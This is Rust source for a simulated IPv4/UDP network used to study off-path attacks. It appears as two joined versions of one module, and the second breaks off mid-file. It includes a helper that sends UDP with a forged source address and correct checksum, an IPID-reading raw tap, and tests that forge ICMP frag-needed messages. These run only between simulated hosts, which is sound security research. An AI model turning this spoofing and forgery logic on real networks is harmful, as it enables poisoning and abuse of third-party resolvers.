use std::collections::{BinaryHeap, HashMap};
use std::net::Ipv4Addr;

use bytes::Bytes;
use rand::rngs::SmallRng;
use rand::{Rng, RngExt, SeedableRng};

use crate::error::SimError;
use crate::frag::{fragment, DefragCache};
use crate::icmp::IcmpMessage;
use crate::ipv4::{Ipv4Packet, IPV4_HEADER_LEN, PROTO_ICMP, PROTO_UDP};
use crate::link::Topology;
use crate::os::{IpidMode, OsProfile};
use crate::pmtu::PmtuCache;
use crate::time::{SimDuration, SimTime};
use crate::udp::UdpDatagram;

/// Token identifying a timer set by a host; the host chooses the value and
/// receives it back in [`Host::on_timer`].
pub type TimerToken = u64;

/// A reassembled, checksum-verified UDP datagram as delivered to a host.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Datagram {
    /// Claimed source address (spoofable!).
    pub src: Ipv4Addr,
    /// Destination address (this host).
    pub dst: Ipv4Addr,
    /// Source port.
    pub src_port: u16,
    /// Destination port.
    pub dst_port: u16,
    /// Application payload.
    pub payload: Bytes,
}

/// Behaviour of a simulated host. All callbacks receive a [`Ctx`] through
/// which the host sends packets and sets timers.
///
/// Implementors must be `'static` (hosts are stored as trait objects and can
/// be inspected after a run via [`Simulator::host`]).
pub trait Host: Any {
    /// Called once when the simulation first runs.
    fn on_start(&mut self, _ctx: &mut Ctx<'_>) {}
    /// Raw-socket tap: sees every IPv4 packet addressed to this host
    /// *before* the stack (reassembly, checksum checks) touches it. Return
    /// `true` to consume the packet (bypass the stack). Off-path attackers
    /// use this to read IPID counters off probe responses.
    fn on_raw_packet(&mut self, _ctx: &mut Ctx<'_>, _pkt: &Ipv4Packet) -> bool {
        false
    }
    /// A UDP datagram arrived (already reassembled and checksum-verified).
    fn on_datagram(&mut self, _ctx: &mut Ctx<'_>, _dgram: &Datagram) {}
    /// An ICMP message arrived. Path-MTU bookkeeping has already been done
    /// by the stack; this is for observability and custom reactions.
    fn on_icmp(&mut self, _ctx: &mut Ctx<'_>, _from: Ipv4Addr, _msg: &IcmpMessage) {}
    /// A timer set via [`Ctx::set_timer`] fired.
    fn on_timer(&mut self, _ctx: &mut Ctx<'_>, _token: TimerToken) {}
}

/// Per-host network stack: fragmentation on send, reassembly and
/// verification on receive, PMTUD bookkeeping, IPID assignment.
#[derive(Debug)]
pub struct NetStack {
    profile: OsProfile,
    defrag: DefragCache,
    pmtu: PmtuCache,
    ipid_global: u16,
    ipid_per_dst: HashMap<Ipv4Addr, u16>,
}

/// What a stack hands up after processing an arriving packet.
#[derive(Debug)]
pub enum StackOutput {
    /// A complete UDP datagram.
    Udp(Datagram),
    /// An ICMP message (PMTU bookkeeping already applied).
    Icmp {
        /// Claimed sender of the ICMP message.
        from: Ipv4Addr,
        /// The decoded message.
        msg: IcmpMessage,
    },
}

impl NetStack {
    /// Creates a stack for the given OS profile.
    pub fn new(profile: OsProfile) -> Self {
        let ipid_start = match profile.ipid {
            IpidMode::GlobalSequential { start } | IpidMode::PerDestination { start } => start,
            IpidMode::Random => 0,
        };
        NetStack {
            defrag: DefragCache::new(profile.defrag),
            pmtu: PmtuCache::new(),
            ipid_global: ipid_start,
            ipid_per_dst: HashMap::new(),
            profile,
        }
    }

    /// The profile this stack models.
    pub fn profile(&self) -> &OsProfile {
        &self.profile
    }

    /// Assigns the IPID for the next packet towards `dst`.
    pub fn next_ipid<R: Rng + ?Sized>(&mut self, dst: Ipv4Addr, rng: &mut R) -> u16 {
        match self.profile.ipid {
            IpidMode::GlobalSequential { .. } => {
                let id = self.ipid_global;
                self.ipid_global = self.ipid_global.wrapping_add(1);
                id
            }
            IpidMode::PerDestination { start } => {
                let counter = self.ipid_per_dst.entry(dst).or_insert(start);
                let id = *counter;
                *counter = counter.wrapping_add(1);
                id
            }
            IpidMode::Random => rng.random(),
        }
    }

    /// Encodes and (if needed) fragments a UDP datagram for the wire,
    /// honouring the cached path MTU towards `dst`.
    pub fn send_udp<R: Rng + ?Sized>(
        &mut self,
        now: SimTime,
        src: Ipv4Addr,
        dst: Ipv4Addr,
        dgram: &UdpDatagram,
        rng: &mut R,
    ) -> Vec<Ipv4Packet> {
        let Ok(udp_bytes) = dgram.encode(src, dst) else {
            return Vec::new();
        };
        let id = self.next_ipid(dst, rng);
        let pkt = Ipv4Packet::udp(src, dst, id, udp_bytes);
        let mtu = self.pmtu.mtu_towards(now, dst, self.profile.interface_mtu);
        fragment(&pkt, mtu).unwrap_or_default()
    }

    /// Processes an arriving packet: filters fragments per policy,
    /// reassembles, verifies UDP checksums, applies PMTUD updates.
    /// Returns what should be handed to the host, if anything.
    pub fn receive(&mut self, now: SimTime, pkt: &Ipv4Packet) -> Option<StackOutput> {
        if pkt.is_fragment() {
            if !self.profile.accept_fragments {
                return None;
            }
            // Size filtering applies to non-final fragments: a datagram's
            // last fragment is legitimately small, but a small *leading*
            // fragment is the signature of the tiny-fragment attacks that
            // filtering resolvers (Table V) drop.
            if pkt.more_fragments && pkt.wire_len() < usize::from(self.profile.min_fragment_size) {
                return None;
            }
        }
        let complete = self.defrag.insert(now, pkt)?;
        match complete.protocol {
            PROTO_UDP => {
                let dgram = UdpDatagram::decode(&complete.payload, complete.src, complete.dst).ok()?;
                Some(StackOutput::Udp(Datagram {
                    src: complete.src,
                    dst: complete.dst,
                    src_port: dgram.src_port,
                    dst_port: dgram.dst_port,
                    payload: dgram.payload,
                }))
            }
            PROTO_ICMP => {
                let msg = IcmpMessage::decode(&complete.payload).ok()?;
                if let IcmpMessage::FragmentationNeeded { mtu, original } = &msg {
                    self.apply_frag_needed(now, complete.dst, *mtu, original);
                }
                Some(StackOutput::Icmp { from: complete.src, msg })
            }
            _ => None,
        }
    }

    /// Updates the path-MTU cache from an ICMP frag-needed whose embedded
    /// original header claims this host (`self_addr`) sent a packet that did
    /// not fit. Plausibility check: embedded src must equal this host.
    fn apply_frag_needed(&mut self, now: SimTime, self_addr: Ipv4Addr, mtu: u16, original: &Bytes) {
        if original.len() < IPV4_HEADER_LEN {
            return;
        }
        let Ok(embedded) = Ipv4Packet::decode(original) else {
            // Embedded header may be a bare 20-byte header without payload;
            // Ipv4Packet::decode requires total_len <= buffer, so craft a
            // lenient parse of just src/dst.
            let src = Ipv4Addr::new(original[12], original[13], original[14], original[15]);
            let dst = Ipv4Addr::new(original[16], original[17], original[18], original[19]);
            if src == self_addr {
                self.pmtu.on_frag_needed(now, dst, mtu, &self.profile.pmtud);
            }
            return;
        };
        if embedded.src == self_addr {
            self.pmtu.on_frag_needed(now, embedded.dst, mtu, &self.profile.pmtud);
        }
    }

    /// Current effective MTU towards `dst` (testing / introspection).
    pub fn mtu_towards(&mut self, now: SimTime, dst: Ipv4Addr) -> u16 {
        self.pmtu.mtu_towards(now, dst, self.profile.interface_mtu)
    }

    /// Access the defragmentation cache (testing / introspection).
    pub fn defrag(&self) -> &DefragCache {
        &self.defrag
    }
}

/// Deferred effects a host requests during a callback.
#[derive(Debug)]
enum Action {
    SendUdp { dst: Ipv4Addr, dgram: UdpDatagram },
    SendIcmp { dst: Ipv4Addr, msg: IcmpMessage },
    SendRaw(Ipv4Packet),
    SetTimer { at: SimTime, token: TimerToken },
}

/// The capability handle hosts use inside callbacks.
pub struct Ctx<'a> {
    now: SimTime,
    addr: Ipv4Addr,
    rng: &'a mut SmallRng,
    actions: &'a mut Vec<Action>,
}

impl<'a> Ctx<'a> {
    /// Current simulated time.
    pub fn now(&self) -> SimTime {
        self.now
    }

    /// This host's address.
    pub fn addr(&self) -> Ipv4Addr {
        self.addr
    }

    /// The simulation's deterministic RNG.
    pub fn rng(&mut self) -> &mut SmallRng {
        self.rng
    }

    /// Sends a UDP datagram from this host (fragmented per the stack's path
    /// MTU towards `dst`).
    pub fn send_udp(&mut self, dst: Ipv4Addr, src_port: u16, dst_port: u16, payload: Bytes) {
        self.actions.push(Action::SendUdp {
            dst,
            dgram: UdpDatagram::new(src_port, dst_port, payload),
        });
    }

    /// Sends an ICMP message from this host.
    pub fn send_icmp(&mut self, dst: Ipv4Addr, msg: IcmpMessage) {
        self.actions.push(Action::SendIcmp { dst, msg });
    }

    /// Injects a raw, fully-formed IPv4 packet (or fragment). The packet's
    /// `src` field may be spoofed; physical transit still originates at this
    /// host, so link latency/loss are those of this host's path to
    /// `pkt.dst`.
    pub fn send_raw(&mut self, pkt: Ipv4Packet) {
        self.actions.push(Action::SendRaw(pkt));
    }

    /// Sends a UDP datagram with a **spoofed source address**: the UDP
    /// checksum is computed over the spoofed pseudo-header so the victim's
    /// stack accepts it. Used for the rate-limit abuse of §IV-B2.
    pub fn send_udp_spoofed(
        &mut self,
        spoofed_src: Ipv4Addr,
        dst: Ipv4Addr,
        src_port: u16,
        dst_port: u16,
        payload: Bytes,
    ) {
        let dgram = UdpDatagram::new(src_port, dst_port, payload);
        if let Ok(bytes) = dgram.encode(spoofed_src, dst) {
            let id = self.rng.random();
            self.actions.push(Action::SendRaw(Ipv4Packet::udp(spoofed_src, dst, id, bytes)));
        }
    }

    /// Arms a one-shot timer `delay` from now; `token` is returned in
    /// [`Host::on_timer`].
    pub fn set_timer(&mut self, delay: SimDuration, token: TimerToken) {
        self.actions.push(Action::SetTimer { at: self.now + delay, token });
    }
}

/// Aggregate counters, useful for assertions in tests and experiments.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, serde::Serialize)]
pub struct SimStats {
    /// IPv4 packets (incl. fragments) put on the wire.
    pub packets_sent: u64,
    /// Packets dropped by link loss.
    pub packets_lost: u64,
    /// Packets that arrived at a registered host.
    pub packets_delivered: u64,
    /// Packets addressed to nobody.
    pub packets_unrouted: u64,
    /// Complete UDP datagrams handed to hosts.
    pub datagrams_delivered: u64,
    /// Datagrams dropped for failing the UDP checksum or filters.
    pub datagrams_dropped: u64,
    /// Timer firings.
    pub timers_fired: u64,
}

#[derive(Debug, PartialEq, Eq)]
struct Event {
    at: SimTime,
    seq: u64,
    kind: EventKind,
}

#[derive(Debug, PartialEq, Eq)]
enum EventKind {
    Start { host: Ipv4Addr },
    Arrival { pkt: Ipv4Packet },
    Timer { host: Ipv4Addr, token: TimerToken },
}

impl Ord for Event {
    fn cmp(&self, other: &Self) -> std::cmp::Ordering {
        (self.at, self.seq).cmp(&(other.at, other.seq))
    }
}

impl PartialOrd for Event {
    fn partial_cmp(&self, other: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}

/// The deterministic discrete-event simulator.
///
/// ```
/// use netsim::prelude::*;
///
/// struct Echo;
/// impl Host for Echo {
///     fn on_datagram(&mut self, ctx: &mut Ctx<'_>, d: &Datagram) {
///         ctx.send_udp(d.src, d.dst_port, d.src_port, d.payload.clone());
///     }
/// }
///
/// let mut sim = Simulator::new(7);
/// sim.add_host("10.0.0.1".parse().unwrap(), OsProfile::linux(), Box::new(Echo)).unwrap();
/// sim.run_for(SimDuration::from_secs(1));
/// ```
pub struct Simulator {
    now: SimTime,
    seq: u64,
    heap: BinaryHeap<Reverse<Event>>,
    hosts: HashMap<Ipv4Addr, Box<dyn Host>>,
    stacks: HashMap<Ipv4Addr, NetStack>,
    topology: Topology,
    rng: SmallRng,
    stats: SimStats,
}

impl Simulator {
    /// Creates a simulator with a deterministic RNG seed and a uniform WAN
    /// topology.
    pub fn new(seed: u64) -> Self {
        Simulator {
            now: SimTime::ZERO,
            seq: 0,
            heap: BinaryHeap::new(),
            hosts: HashMap::new(),
            stacks: HashMap::new(),
            topology: Topology::default(),
            rng: SmallRng::seed_from_u64(seed),
            stats: SimStats::default(),
        }
    }

    /// Creates a simulator with an explicit topology.
    pub fn with_topology(seed: u64, topology: Topology) -> Self {
        Simulator { topology, ..Simulator::new(seed) }
    }

    /// Current simulated time.
    pub fn now(&self) -> SimTime {
        self.now
    }

    /// Aggregate counters.
    pub fn stats(&self) -> SimStats {
        self.stats
    }

    /// Mutable access to the topology (links can change mid-simulation).
    pub fn topology_mut(&mut self) -> &mut Topology {
        &mut self.topology
    }

    /// Registers a host at `addr` with the given OS profile.
    ///
    /// # Errors
    ///
    /// Returns [`SimError::DuplicateAddress`] if the address is taken.
    pub fn add_host(
        &mut self,
        addr: Ipv4Addr,
        profile: OsProfile,
        host: Box<dyn Host>,
    ) -> Result<(), SimError> {
        if self.hosts.contains_key(&addr) {
            return Err(SimError::DuplicateAddress { addr });
        }
        self.hosts.insert(addr, host);
        self.stacks.insert(addr, NetStack::new(profile));
        let at = self.now;
        self.push_event(at, EventKind::Start { host: addr });
        Ok(())
    }

    /// Immutable, downcast access to a host (after or during a run).
    pub fn host<T: Host>(&self, addr: Ipv4Addr) -> Option<&T> {
        let h = self.hosts.get(&addr)?;
        (h.as_ref() as &dyn Any).downcast_ref::<T>()
    }

    /// Mutable, downcast access to a host.
    pub fn host_mut<T: Host>(&mut self, addr: Ipv4Addr) -> Option<&mut T> {
        let h = self.hosts.get_mut(&addr)?;
        (h.as_mut() as &mut dyn Any).downcast_mut::<T>()
    }

    /// Access a host's network stack (introspection in tests).
    pub fn stack(&self, addr: Ipv4Addr) -> Option<&NetStack> {
        self.stacks.get(&addr)
    }

    /// Runs until the event queue is exhausted or `deadline` is reached;
    /// `now` afterwards equals `deadline` (or the last event time if the
    /// queue drained first and was later).
    pub fn run_until(&mut self, deadline: SimTime) {
        while let Some(Reverse(ev)) = self.heap.peek() {
            if ev.at > deadline {
                break;
            }
            let Reverse(ev) = self.heap.pop().expect("peeked event exists");
            self.now = ev.at;
            self.dispatch(ev);
        }
        if self.now < deadline {
            self.now = deadline;
        }
    }

    /// Runs for a span of simulated time.
    pub fn run_for(&mut self, span: SimDuration) {
        let deadline = self.now + span;
        self.run_until(deadline);
    }

    /// Processes every queued event regardless of time (the queue must be
    /// finite; hosts with periodic timers never drain).
    pub fn run_to_completion(&mut self) {
        self.run_until(SimTime::MAX);
    }

    fn push_event(&mut self, at: SimTime, kind: EventKind) {
        let seq = self.seq;
        self.seq += 1;
        self.heap.push(Reverse(Event { at, seq, kind }));
    }

    fn dispatch(&mut self, ev: Event) {
        match ev.kind {
            EventKind::Start { host } => self.call_host(host, HostInput::Start),
            EventKind::Timer { host, token } => {
                self.stats.timers_fired += 1;
                self.call_host(host, HostInput::Timer(token));
            }
            EventKind::Arrival { pkt } => {
                let dst = pkt.dst;
                if !self.hosts.contains_key(&dst) {
                    self.stats.packets_unrouted += 1;
                    return;
                }
                self.stats.packets_delivered += 1;
                // Raw tap first: attacker-style hosts observe headers.
                let mut actions = Vec::new();
                let consumed = {
                    let host = self.hosts.get_mut(&dst).expect("host exists");
                    let mut ctx = Ctx {
                        now: self.now,
                        addr: dst,
                        rng: &mut self.rng,
                        actions: &mut actions,
                    };
                    host.on_raw_packet(&mut ctx, &pkt)
                };
                self.apply_actions(dst, actions);
                if consumed {
                    return;
                }
                let output = {
                    let stack = self.stacks.get_mut(&dst).expect("stack exists for host");
                    stack.receive(self.now, &pkt)
                };
                match output {
                    Some(StackOutput::Udp(dgram)) => {
                        self.stats.datagrams_delivered += 1;
                        self.call_host(dst, HostInput::Datagram(dgram));
                    }
                    Some(StackOutput::Icmp { from, msg }) => {
                        self.call_host(dst, HostInput::Icmp(from, msg));
                    }
                    None => {
                        if !pkt.is_fragment() || !pkt.more_fragments {
                            self.stats.datagrams_dropped += 1;
                        }
                    }
                }
            }
        }
    }

    fn call_host(&mut self, addr: Ipv4Addr, input: HostInput) {
        let mut actions = Vec::new();
        {
            let Some(host) = self.hosts.get_mut(&addr) else { return };
            let mut ctx = Ctx {
                now: self.now,
                addr,
                rng: &mut self.rng,
                actions: &mut actions,
            };
            match input {
                HostInput::Start => host.on_start(&mut ctx),
                HostInput::Datagram(d) => host.on_datagram(&mut ctx, &d),
                HostInput::Icmp(from, msg) => host.on_icmp(&mut ctx, from, &msg),
                HostInput::Timer(token) => host.on_timer(&mut ctx, token),
            }
        }
        self.apply_actions(addr, actions);
    }

    fn apply_actions(&mut self, origin: Ipv4Addr, actions: Vec<Action>) {
        for action in actions {
            match action {
                Action::SendUdp { dst, dgram } => {
                    let pkts = {
                        let stack = self.stacks.get_mut(&origin).expect("origin stack exists");
                        stack.send_udp(self.now, origin, dst, &dgram, &mut self.rng)
                    };
                    for pkt in pkts {
                        self.transmit(origin, pkt);
                    }
                }
                Action::SendIcmp { dst, msg } => {
                    let id = {
                        let stack = self.stacks.get_mut(&origin).expect("origin stack exists");
                        stack.next_ipid(dst, &mut self.rng)
                    };
                    let pkt = Ipv4Packet::icmp(origin, dst, id, msg.encode());
                    self.transmit(origin, pkt);
                }
                Action::SendRaw(pkt) => self.transmit(origin, pkt),
                Action::SetTimer { at, token } => {
                    self.push_event(at, EventKind::Timer { host: origin, token });
                }
            }
        }
    }

    /// Puts a packet on the wire from the physical location `origin`.
    fn transmit(&mut self, origin: Ipv4Addr, pkt: Ipv4Packet) {
        self.stats.packets_sent += 1;
        let link = self.topology.link(origin, pkt.dst);
        match link.sample(&mut self.rng) {
            Some(delay) => {
                let at = self.now + delay;
                self.push_event(at, EventKind::Arrival { pkt });
            }
            None => self.stats.packets_lost += 1,
        }
    }
}

enum HostInput {
    Start,
    Datagram(Datagram),
    Icmp(Ipv4Addr, IcmpMessage),
    Timer(TimerToken),
}

impl std::fmt::Debug for Simulator {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Simulator")
            .field("now", &self.now)
            .field("hosts", &self.hosts.len())
            .field("queued_events", &self.heap.len())
            .field("stats", &self.stats)
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::link::LinkSpec;

    const A: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 1);
    const B: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 2);

    /// Sends one datagram to a peer on start; records what it receives.
    struct Pinger {
        peer: Ipv4Addr,
        received: Vec<Datagram>,
    }

    impl Host for Pinger {
        fn on_start(&mut self, ctx: &mut Ctx<'_>) {
            ctx.send_udp(self.peer, 1000, 2000, Bytes::from_static(b"ping"));
        }
        fn on_datagram(&mut self, _ctx: &mut Ctx<'_>, d: &Datagram) {
            self.received.push(d.clone());
        }
    }

    struct Echo {
        received: usize,
    }

    impl Host for Echo {
        fn on_datagram(&mut self, ctx: &mut Ctx<'_>, d: &Datagram) {
            self.received += 1;
            ctx.send_udp(d.src, d.dst_port, d.src_port, d.payload.clone());
        }
    }

    fn two_host_sim() -> Simulator {
        let mut sim = Simulator::with_topology(
            1,
            Topology::uniform(LinkSpec::fixed(SimDuration::from_millis(10))),
        );
        sim.add_host(A, OsProfile::linux(), Box::new(Pinger { peer: B, received: vec![] }))
            .unwrap();
        sim.add_host(B, OsProfile::linux(), Box::new(Echo { received: 0 })).unwrap();
        sim
    }

    #[test]
    fn ping_pong_round_trip() {
        let mut sim = two_host_sim();
        sim.run_for(SimDuration::from_secs(1));
        let pinger: &Pinger = sim.host(A).unwrap();
        assert_eq!(pinger.received.len(), 1);
        assert_eq!(pinger.received[0].payload, Bytes::from_static(b"ping"));
        assert_eq!(pinger.received[0].src, B);
        let echo: &Echo = sim.host(B).unwrap();
        assert_eq!(echo.received, 1);
        assert_eq!(sim.stats().datagrams_delivered, 2);
    }

    #[test]
    fn latency_is_respected() {
        let mut sim = two_host_sim();
        sim.run_for(SimDuration::from_millis(9));
        let echo: &Echo = sim.host(B).unwrap();
        assert_eq!(echo.received, 0, "packet needs 10ms to arrive");
        sim.run_for(SimDuration::from_millis(2));
        let echo: &Echo = sim.host(B).unwrap();
        assert_eq!(echo.received, 1);
    }

    #[test]
    fn duplicate_address_rejected() {
        let mut sim = Simulator::new(1);
        sim.add_host(A, OsProfile::linux(), Box::new(Echo { received: 0 })).unwrap();
        let err = sim.add_host(A, OsProfile::linux(), Box::new(Echo { received: 0 }));
        assert!(matches!(err, Err(SimError::DuplicateAddress { .. })));
    }

    #[test]
    fn unrouted_packets_are_counted() {
        struct Blaster;
        impl Host for Blaster {
            fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                ctx.send_udp("203.0.113.99".parse().unwrap(), 1, 2, Bytes::from_static(b"x"));
            }
        }
        let mut sim = Simulator::new(3);
        sim.add_host(A, OsProfile::linux(), Box::new(Blaster)).unwrap();
        sim.run_for(SimDuration::from_secs(1));
        assert_eq!(sim.stats().packets_unrouted, 1);
    }

    #[test]
    fn large_datagram_fragments_and_reassembles_through_sim() {
        struct BigSender {
            peer: Ipv4Addr,
        }
        impl Host for BigSender {
            fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                ctx.send_udp(self.peer, 1, 2, Bytes::from(vec![0x5A; 4000]));
            }
        }
        struct Sink {
            got: Option<usize>,
        }
        impl Host for Sink {
            fn on_datagram(&mut self, _ctx: &mut Ctx<'_>, d: &Datagram) {
                self.got = Some(d.payload.len());
            }
        }
        let mut sim = Simulator::new(4);
        sim.add_host(A, OsProfile::linux(), Box::new(BigSender { peer: B })).unwrap();
        sim.add_host(B, OsProfile::linux(), Box::new(Sink { got: None })).unwrap();
        sim.run_for(SimDuration::from_secs(1));
        // 4000 bytes over a 1500 MTU: 3 fragments on the wire.
        assert!(sim.stats().packets_sent >= 3);
        let sink: &Sink = sim.host(B).unwrap();
        assert_eq!(sink.got, Some(4000));
    }

    #[test]
    fn icmp_frag_needed_shrinks_subsequent_sends() {
        // B forges nothing here; this tests the legitimate PMTUD path:
        // A sends a big datagram, we inject frag-needed, A re-sends smaller.
        struct Repeater {
            peer: Ipv4Addr,
        }
        impl Host for Repeater {
            fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                ctx.set_timer(SimDuration::from_secs(1), 0);
                ctx.send_udp(self.peer, 1, 2, Bytes::from(vec![1; 1400]));
            }
            fn on_timer(&mut self, ctx: &mut Ctx<'_>, _t: TimerToken) {
                ctx.send_udp(self.peer, 1, 2, Bytes::from(vec![2; 1400]));
            }
        }
        struct IcmpSource {
            victim: Ipv4Addr,
            peer_of_victim: Ipv4Addr,
        }
        impl Host for IcmpSource {
            fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                // Embedded original: victim -> peer.
                let original = Ipv4Packet::udp(
                    self.victim,
                    self.peer_of_victim,
                    0,
                    Bytes::from_static(&[0u8; 8]),
                )
                .encode()
                .unwrap();
                ctx.send_icmp(
                    self.victim,
                    IcmpMessage::FragmentationNeeded { mtu: 576, original },
                );
            }
        }
        struct Sink {
            datagrams: usize,
        }
        impl Host for Sink {
            fn on_datagram(&mut self, _ctx: &mut Ctx<'_>, _d: &Datagram) {
                self.datagrams += 1;
            }
        }
        let c: Ipv4Addr = "10.0.0.3".parse().unwrap();
        let mut sim = Simulator::with_topology(
            5,
            Topology::uniform(LinkSpec::fixed(SimDuration::from_millis(1))),
        );
        sim.add_host(A, OsProfile::linux(), Box::new(Repeater { peer: B })).unwrap();
        sim.add_host(B, OsProfile::linux(), Box::new(Sink { datagrams: 0 })).unwrap();
        sim.add_host(c, OsProfile::linux(), Box::new(IcmpSource { victim: A, peer_of_victim: B }))
            .unwrap();
        sim.run_for(SimDuration::from_secs(3));
        let sink: &Sink = sim.host(B).unwrap();
        assert_eq!(sink.datagrams, 2, "both datagrams must arrive");
        // First send: 1 packet; second send (post-ICMP, MTU 576): 3 fragments.
        // Plus 1 ICMP packet = at least 5 on the wire.
        assert!(sim.stats().packets_sent >= 5, "stats: {:?}", sim.stats());
    }

    #[test]
    fn spoofed_udp_carries_valid_checksum_for_spoofed_src() {
        struct Spoofer {
            victim_src: Ipv4Addr,
            dst: Ipv4Addr,
        }
        impl Host for Spoofer {
            fn on_start(&mut self, ctx: &mut Ctx<'_>) {
                ctx.send_udp_spoofed(self.victim_src, self.dst, 123, 123, Bytes::from_static(b"spoof"));
            }
        }
        struct Sink {
            from: Option<Ipv4Addr>,
        }
        impl Host for Sink {
            fn on_datagram(&mut self, _ctx: &mut Ctx<'_>, d: &Datagram) {
                self.from = Some(d.src);
            }
        }
        let attacker: Ipv4Addr = "203.0.113.66".parse().unwrap();
        let mut sim = Simulator::new(6);
        sim.add_host(attacker, OsProfile::linux(), Box::new(Spoofer { victim_src: A, dst: B }))
            .unwrap();
        sim.add_host(B, OsProfile::linux(), Box::new(Sink { from: None })).unwrap();
        sim.run_for(SimDuration::from_secs(1));
        let sink: &Sink = sim.host(B).unwrap();
        assert_eq!(sink.from, Some(A), "sink must see the spoofed source");
    }

    #[test]
    fn determinism_same_seed_same_stats() {
        let run = |seed| {
            let mut sim = Simulator::new(seed);
            sim.topology_mut()
                .set_link_bidir(A, B, LinkSpec::wan().with_loss(0.2));
            sim.add_host(A, OsProfile::linux(), Box::new(Pinger { peer: B, received: vec![] }))
                .unwrap();
            sim.add_host(B, OsProfile::linux(), Box::new(Echo { received: 0 })).unwrap();
            sim.run_for(SimDuration::from_secs(5));
            sim.stats()
        };
        assert_eq!(run(99), run(99));
    }
}
