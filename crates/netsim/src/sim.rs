//! The discrete-event simulator: hosts, network stacks, and the event loop.
//!
//! Every host owns a [`NetStack`] (defragmentation cache, path-MTU cache,
//! IPID counters per its [`OsProfile`]) and implements [`Host`]. Packets are
//! real encoded IPv4 bytes-on-structs; delivery times come from the
//! [`Topology`]'s link specs; everything is driven by a deterministic,
//! seeded event heap.
//!
//! ## Engine layout
//!
//! Hosts live in a dense slab: [`Simulator::add_host`] interns the address
//! into a [`HostId`] once, and the event loop addresses hosts and stacks by
//! slab index — the hot dispatch path performs no hash lookups. Packets
//! resolve their destination `HostId` when they are put on the wire; a
//! packet addressed to a host registered only *after* transmission falls
//! back to one interner lookup at delivery time. Host callbacks write their
//! deferred effects into a scratch buffer owned by the simulator, so steady
//! state dispatch allocates nothing.
//!
//! Events are queued in a hierarchical [timing wheel](crate::wheel) — O(1)
//! schedule/pop in the same `(time, sequence)` total order a binary heap
//! would give — and packets are **move-delivered**: the simulator transfers
//! ownership of each [`Ipv4Packet`] from the wire through the stack
//! (reassembly, checksum verification) to the host callback without a
//! single packet clone.
//!
//! ## Allocation discipline
//!
//! The dispatch enums are kept at most 32 bytes (enforced by static
//! asserts below): the payload-bearing variants of `Action` and
//! `EventKind` box their contents, and the boxes are recycled through a
//! simulator-owned freelist (`BoxPool`) — an in-flight packet reuses the
//! box of a previously delivered one. Wire bytes
//! themselves come from the vendored `bytes` buffer pool (a 24-B handle:
//! inline storage for ≤ 22 B, a thread-local `Arc<Vec<u8>>` freelist above
//! that), so the steady-state encode → transmit → deliver path performs
//! **zero heap allocations**. [`Simulator::new`] resets that pool, making
//! the [`SimStats::pool_hits`]/[`SimStats::pool_misses`] counters a pure
//! function of the simulation (determinism contract: identical for any
//! worker count or thread reuse).
//!
//! ## Cache shape
//!
//! Beyond allocation, the loop is laid out for cache residency (see
//! `docs/ARCHITECTURE.md` § "Hot-path data layout"): the host slab keeps
//! each slot to 48 B by splitting every stack into an inline hot half and
//! a boxed cold half ([`NetStack`]), and dispatch is **batched** — each
//! same-instant wheel run is drained into a scratch ring in one motion and
//! dispatched front to back, preserving the exact `(at, seq)` order (the
//! one-event reference loop remains available via
//! [`Simulator::set_batched_dispatch`] and the differential tests hold the
//! two modes bit-identical).
// simlint: hot-path — the dispatch loop, the SoA host slab and the send/
// receive paths below run once per simulated event; the steady state is
// allocation-free (pooled boxes, reused scratch buffers, inline `Bytes`),
// and the allows mark the cold constructors and pool-miss refill paths.

use std::any::Any;
use std::collections::VecDeque;
use std::net::Ipv4Addr;

use bytes::Bytes;
use rand::rngs::SmallRng;
use rand::{Rng, RngExt, SeedableRng};

use crate::drop::{DropCounts, DropReason};
use crate::error::{SimError, WireError};
use crate::fasthash::FastMap;
use crate::frag::{fragment_into, DefragCache, FragInsert};
use crate::icmp::IcmpMessage;
use crate::ipv4::{Ipv4Packet, IPV4_HEADER_LEN, PROTO_ICMP, PROTO_UDP};
use crate::link::Topology;
use crate::os::{IpidMode, OsProfile};
use crate::pmtu::PmtuCache;
use crate::time::{SimDuration, SimTime};
use crate::udp::UdpDatagram;
use crate::wheel::TimingWheel;

/// Token identifying a timer set by a host; the host chooses the value and
/// receives it back in [`Host::on_timer`].
pub type TimerToken = u64;

/// Dense index of a registered host: the slab slot assigned by
/// [`Simulator::add_host`]. Event dispatch addresses hosts by this index
/// instead of hashing their [`Ipv4Addr`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct HostId(u32);

impl HostId {
    /// The slab index backing this id.
    pub fn index(self) -> usize {
        self.0 as usize
    }
}

/// A reassembled, checksum-verified UDP datagram as delivered to a host.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Datagram {
    /// Claimed source address (spoofable!).
    pub src: Ipv4Addr,
    /// Destination address (this host).
    pub dst: Ipv4Addr,
    /// Source port.
    pub src_port: u16,
    /// Destination port.
    pub dst_port: u16,
    /// Application payload.
    pub payload: Bytes,
}

/// Behaviour of a simulated host. All callbacks receive a [`Ctx`] through
/// which the host sends packets and sets timers.
///
/// Implementors must be `'static` (hosts are stored as trait objects and can
/// be inspected after a run via [`Simulator::host`]).
pub trait Host: Any {
    /// Called once when the simulation first runs.
    fn on_start(&mut self, _ctx: &mut Ctx<'_>) {}
    /// Raw-socket tap: sees every IPv4 packet addressed to this host
    /// *before* the stack (reassembly, checksum checks) touches it. Return
    /// `true` to consume the packet (bypass the stack). Off-path attackers
    /// use this to read IPID counters off probe responses.
    fn on_raw_packet(&mut self, _ctx: &mut Ctx<'_>, _pkt: &Ipv4Packet) -> bool {
        false
    }
    /// A UDP datagram arrived (already reassembled and checksum-verified).
    fn on_datagram(&mut self, _ctx: &mut Ctx<'_>, _dgram: &Datagram) {}
    /// An ICMP message arrived. Path-MTU bookkeeping has already been done
    /// by the stack; this is for observability and custom reactions.
